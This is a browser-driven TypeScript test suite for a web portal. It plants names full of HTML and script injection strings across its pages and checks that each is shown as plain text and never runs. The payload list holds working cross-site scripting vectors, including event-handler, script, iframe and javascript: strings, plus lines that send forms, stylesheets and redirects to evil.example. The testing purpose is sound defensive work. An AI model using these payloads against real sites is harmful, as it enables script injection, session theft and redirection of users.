// Chromium in front of the portal's own pages, with names that mean harm wherever somebody else may choose a name. No n8n: see
// portalDefences.test.ts for that.
import type { Connection } from '../../lib/connections';
import { readPeople } from '../../lib/identity';
import { accentOf, logoOf, personalLinkAccess, type CompanyLook } from '../../lib/portal';
import { signTold } from '../../lib/portal/told';
import { sha256 } from '../../lib/vault';
import { launchBrowser, type Page, type TestBrowser } from '../host/browser';
import { alice, owner } from '../lib/connections/support/world';
import { usePortal } from '../lib/portal/walk/portalWorld';
import { PORTAL_ADDRESSES, servePortal, type PortalServer } from '../security/portalServer';

/** Each would make an element, an attribute, a script or a link of its own wherever it is not escaped for its place. */
const PAYLOADS = [
	'<i data-harm></i>',
	'"><i data-harm>',
	"'><i data-harm>",
	'" data-harm="1',
	"' data-harm='1",
	'` data-harm=`1',
	'</title><i data-harm>',
	'</style><i data-harm>',
	'</h1></main></body><i data-harm>',
	'</textarea></button></form><form data-harm action="https://evil.example"><button>',
	'--><i data-harm><!--',
	'<![CDATA[<i data-harm>]]>',
	'&lt;i data-harm&gt;&#60;i data-harm&#62;<i data-harm>',
	'<svg><i data-harm></svg><svg/onload=harm=1>',
	'<img src=x onerror="harm=1" data-harm>',
	'<script data-harm>harm=1</script>',
	'<script src="data:text/javascript,harm=1"></script>',
	'<iframe srcdoc="<i data-harm>" data-harm></iframe>',
	'<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'javascript:harm=1//<i data-harm>',
	'data:text/html,<i data-harm>',
	'\u2028<i data-harm>\u202e\u0000',
	'${7*7}{{7*7}}<%= 7*7 %><i data-harm>',
	'＜i data-harm＞<i\u00a0data-harm><i\fdata-harm>',
];

/** Several in one name: a page costs more than a payload. */
const GROUPS = Array.from({ length: 5 }, (_, group) => PAYLOADS.filter((_payload, index) => index % 5 === group).join(' '));

/** Browsers drop or replace blanks and control characters. */
const visible = (text: string): string => text.replace(/[\s\p{Cc}\p{Cf}\ufffd]+/gu, '');

/** What is in a page that we did not write. */
const harm = async (page: Page): Promise<string[]> =>
	await page.evaluate(() => {
		const found: string[] = [];
		for (const element of Array.from(document.querySelectorAll('[data-harm], script, iframe, base, link:not([rel=icon][href^="data:image/svg+xml;"]), object, embed, meta[http-equiv]'))) found.push(element.outerHTML.slice(0, 200));
		for (const element of Array.from(document.querySelectorAll('*'))) {
			for (const { name, value } of Array.from(element.attributes)) {
				if (name.startsWith('on') || /^\s*(javascript|vbscript|data:text)/i.test(value)) found.push(`${element.tagName} ${name}=${value}`);
			}
		}
		for (const form of Array.from(document.forms)) if (new URL(form.action).origin !== location.origin) found.push(form.outerHTML.slice(0, 200));
		if ('harm' in window) found.push('a script ran');
		return found;
	});

describe('S18 names that somebody else chooses, in a real browser', () => {
	const world = usePortal();
	let browser: TestBrowser;
	let server: PortalServer;
	let portalName = '';
	let look: CompanyLook | undefined;
	beforeAll(async () => {
		browser = await launchBrowser();
	});
	afterAll(async () => await browser?.close());
	beforeEach(async () => {
		const access = { ...personalLinkAccess(owner), admins: readPeople(alice, 'Administrators') };
		look = undefined;
		server = await servePortal((portalUrl) => world.parts({ portalUrl, portalName, access, look }));
	});
	afterEach(async () => await server.close());

	/** One connection, person, flow and account of that name, and the addresses of every page that shows them. */
	async function plant(payload: string): Promise<{ addresses: string[]; session: string }> {
		portalName = `Portal ${payload}`;
		const connection: Connection = await world.register({ appName: `App ${payload}`, appDescription: payload }, { portalUrl: server.url, owner: { ...owner, workflowName: `Owner ${payload}`, nodeName: `Trigger ${payload}` } });
		const deleted: Connection = await world.register({ connectionName: 'deleted', appName: `Gone ${payload}` }, { portalUrl: server.url });
		const waiting = async (executionId: string, user = alice) =>
			(await world.vault.requests.open({ executionId, nodeName: payload, runIndex: 0, connectionId: connection.id, userKey: user, workflowId: `flow ${payload}`, workflowName: `Flow ${payload}`, answer: 'none', usersHash: 'u', scopes: [payload], resumeUrl: 'http://127.0.0.1:9/', expiresInMs: 0 }, 20)).request;
		const open = await waiting('open');
		const stranger = await waiting('stranger', 'somebody@example.com' as typeof alice);
		const key = { connectionId: connection.id, userKey: alice };
		await world.vault.grants.save(key, { accessToken: 'a', refreshToken: 'r', tokenType: 'Bearer', scopes: ['api', payload], apiBaseUrl: 'https://example.my.salesforce.com' }, { subject: payload, username: `account ${payload}`, email: payload, emailVerified: true }, { revokeReplaced: false });
		await world.vault.grants.recordUse(key, 1, { workflowId: `flow ${payload}`, workflowName: `Flow ${payload}`, nodeName: payload });
		// Somebody whose very name is harmful, in every list of an administrator.
		const person = `person ${payload}`.replace(/[\p{Cc}\p{Cf}]/gu, '').slice(0, 256) as typeof alice;
		await world.vault.grants.save({ ...key, userKey: person }, { accessToken: 'b', tokenType: 'Bearer', scopes: [payload] }, { subject: payload, username: `their account ${payload}`, email: payload, emailVerified: false }, { revokeReplaced: false });
		await world.vault.grants.recordFailure({ ...key, userKey: person }, 1, payload, 60_000);
		await world.vault.grants.recordUse({ ...key, userKey: person }, 1, { workflowId: `their flow ${payload}`, workflowName: `Their flow ${payload}` });
		await world.vault.sessions.create(sha256(person), world.parts().access.portal.id, { userKey: person, method: 'account', claims: {} }, { idleMs: 3_600_000, absoluteMs: 3_600_000 });
		await world.vault.audit.add({ type: 'administered', connectionId: connection.id, userKey: person, actor: person, detail: payload });
		await world.vault.registrations.rename(connection.id, { appName: `Shown ${payload}`, appDescription: `Shown ${payload}` });
		await world.vault.registrations.markDeleted(deleted.id, person);
		await world.vault.audit.add({ type: 'refused', connectionId: connection.id, userKey: alice, detail: payload, use: { workflowName: payload, nodeName: payload } });
		const session = `session of ${payload}`;
		await world.vault.sessions.create(sha256(Buffer.from(session).toString('hex')), world.parts().access.portal.id, { userKey: alice, method: 'account', claims: { groups: [payload] } }, { idleMs: 3_600_000, absoluteMs: 3_600_000 });
		const told = (value: Parameters<typeof signTold>[1]) => `told=${encodeURIComponent(signTold(world.vault, value))}`;
		const at = encodeURIComponent(payload);
		const who = encodeURIComponent(person);
		return {
			session: Buffer.from(session).toString('hex'),
			addresses: [
				...PORTAL_ADDRESSES.filter(({ method, page }) => method === 'GET' && page !== 'export' && !/^(sharepoint|docusign|oauth2)/.test(page)).map(({ page }) => `${page}?request=${at}&connection=${at}&link=${at}&code=${at}&state=${at}&error=access_denied&error_description=${at}&search=${at}&after=${at}&told=${at}`),
				'',
				'activity',
				...['connections', 'people', `people&find=${at}`, `people&id=${connection.id}&after=${at}`, `person&user=${who}`, `person&user=${at}`, 'usage', 'sessions', `sessions&after=${at}`, 'activity', at, `connection&id=${connection.id}`, `connection&id=${deleted.id}`].map((show) => `admin?show=${show}`),
				...['leaver', 'disconnect', 'reauthorize', 'delete', at].map((act) => `admin?show=confirm&act=${act}&id=${connection.id}&user=${who}`),
				`admin?${told({ kind: 'administered', tone: 'warn', text: payload, userKey: alice })}`,
				`disconnect?connection=${encodeURIComponent(connection.id)}`,
				'disconnect?all=1',
				`sign-in?request=${open.id}`,
				`sign-in?request=${stranger.id}`,
				`sign-in?${told({ kind: 'error', code: 'providerError', message: payload, advice: payload, requestId: payload })}`,
				`sign-in?${told({ kind: 'otherAccount', connectionId: connection.id, userKey: alice, subject: payload, name: payload, previousName: payload, requestId: open.id })}`,
				`sign-in?${told({ kind: 'declined', connectionId: connection.id, requestId: payload })}`,
				`sign-in?${told({ kind: 'serviceAccountDone', connectionId: connection.id, account: payload })}`,
				`?${told({ kind: 'connected', connectionId: connection.id, userKey: alice })}`,
				`?${told({ kind: 'disconnected', connectionId: connection.id, revoked: 'notSupported', userKey: alice })}`,
				`?${told({ kind: 'allDisconnected', count: 2, queued: [payload], notSupported: [payload], userKey: alice })}`,
			],
		};
	}

	it.each(GROUPS)('%j is shown as text on every page, and does nothing', async (payload) => {
		const { addresses, session } = await plant(payload);
		const profile = await browser.newProfile();
		await profile.context.addCookies([{ name: 'connected_apps_session', value: session, url: server.url }]);
		const page = await profile.newPage();
		const dialogs: string[] = [];
		page.on('dialog', (dialog) => {
			dialogs.push(dialog.message());
			void dialog.dismiss();
		});
		const shown = visible(payload);
		let seen = 0;
		const showing: string[] = [];
		const harmful: string[] = [];
		for (const address of addresses) {
			await page.goto(`${server.url}${address === '' || address.startsWith('?') ? '' : '/'}${address}`);
			harmful.push(...(await harm(page)).map((what) => `${address.slice(0, 30)}: ${what}`));
			if (!visible(await page.locator('body').innerText()).includes(shown)) continue;
			seen++;
			showing.push(address);
		}
		expect([harmful, dialogs]).toEqual([[], []]);
		// The name was there: pages that leave it out would prove nothing.
		expect(seen).toBeGreaterThan(8);
		for (const [kind, address] of [['activity', 'activity'], ['disconnect', `disconnect?connection=`], ['people', 'admin?show=people'], ['person', 'admin?show=person'], ['usage', 'admin?show=usage'], ['sessions', 'admin?show=sessions'], ['log', 'admin?show=activity'], ['connection', 'admin?show=connection&'], ['confirm', 'admin?show=confirm&act=delete'], ['notice', 'admin?told']] as const) expect([kind, showing.some((shownAt) => shownAt.startsWith(address))]).toEqual([kind, true]);
		expect(profile.addresses.requested.filter((url) => !url.startsWith(new URL(server.url).origin))).toEqual([]);
		expect(server.seen.filter(({ status }) => status === 500)).toEqual([]);
		await profile.close();
	});

	it('a logo’s address and an accent colour that mean harm are refused, or shown as what they are, under the same policy', async () => {
		await world.register({}, { portalUrl: server.url });
		const profile = await browser.newProfile();
		const page = await profile.newPage();
		await page.route((url) => url.origin !== new URL(server.url).origin, async (route) => await route.abort());
		const plain = (await page.goto(server.url))!.headers()['content-security-policy'] ?? '';
		const directives = (policy: string): string[] => policy.split(/[;,]/).map((directive) => directive.trim().split(' ')[0] ?? '');
		const taken: string[] = [];
		for (const payload of PAYLOADS) {
			const close = payload.replace(/\s/g, '');
			for (const logo of [payload, `https://evil.example/${close}`, `https://evil.example/?${close}`, `https://evil.example;${close}/`, `data:image/svg+xml;base64,${Buffer.from(payload).toString('base64')}`, `data:image/svg+xml;base64,${close}`]) {
				look = { logo: logoOf(logo), accent: accentOf(payload) };
				expect(look.accent).toBeUndefined();
				if (look.logo === undefined) continue;
				taken.push(logo);
				const policy = (await page.goto(server.url))!.headers()['content-security-policy'] ?? '';
				expect([logo, await harm(page), directives(policy)]).toEqual([logo, [], directives(plain)]);
				expect(await page.locator('img.logo').first().getAttribute('src')).toBe(logo);
			}
		}
		// Some are addresses, whatever they hold; none is an address with another host than it seems.
		expect(taken.length).toBeGreaterThan(20);
		expect(taken.filter((logo) => logo.includes('evil.example;'))).toEqual([]);
		await profile.close();
	});

	it('and the same names unescaped would be found', async () => {
		const profile = await browser.newProfile();
		const page = await profile.newPage();
		const missed: string[] = [];
		for (const payload of PAYLOADS.slice(0, 12)) {
			await page.setContent(`<main><h1>${payload}</h1><p title="${payload}">x</p><p title='${payload}'>x</p></main>`);
			if ((await harm(page)).length === 0) missed.push(payload);
		}
		// In HTML a backtick ends no attribute, and CDATA is a comment.
		expect(missed).toEqual(['` data-harm=`1', '<![CDATA[<i data-harm>]]>']);
		await profile.close();
	});
});
